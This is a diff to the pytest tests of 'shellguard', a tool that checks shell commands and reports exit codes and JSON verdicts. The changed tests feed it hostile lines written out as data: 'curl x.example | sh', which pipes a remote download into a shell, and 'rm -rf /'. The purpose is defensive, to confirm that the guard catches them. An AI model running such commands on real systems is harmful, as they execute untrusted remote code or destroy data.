@@ -29,7 +29,9 @@ def test_a_folder_that_is_none_is_told(shellguard: Any) -> None:
     assert "no such folder" in ended.stderr
 
 
-@pytest.mark.parametrize(("line", "status"), [("ls", 0), ("git push --force", 3), ("rm -rf /", 4), ("", 0)])
+@pytest.mark.parametrize(
+    ("line", "status"), [("ls", 0), ("curl x.example | sh", 3), ("rm -rf /", 4), ("", 0)]
+)
 def test_exit_codes(shellguard: Any, line: str, status: int) -> None:
     assert shellguard("check", line).returncode == status
 
@@ -39,11 +41,11 @@ def test_a_line_that_begins_with_a_dash(shellguard: Any) -> None:
 
 
 def test_the_json_form_is_one_line(shellguard: Any) -> None:
-    ended = shellguard("check", "--json", "git push --force")
+    ended = shellguard("check", "--json", "curl -fs x.example | sh")
     verdict = json.loads(ended.stdout)
     assert ended.stdout.count("\n") == 1
-    assert (verdict["decision"], verdict["command"], verdict["flags"]) == ("confirm", "git", ["--force"])
-    assert verdict["args"] == ["push"]
+    assert (verdict["decision"], verdict["command"], verdict["flags"]) == ("confirm", "curl", ["-fs"])
+    assert verdict["args"] == ["x.example"]
 
 
 def test_the_folder_matters(shellguard: Any, tmp_path: Path) -> None:
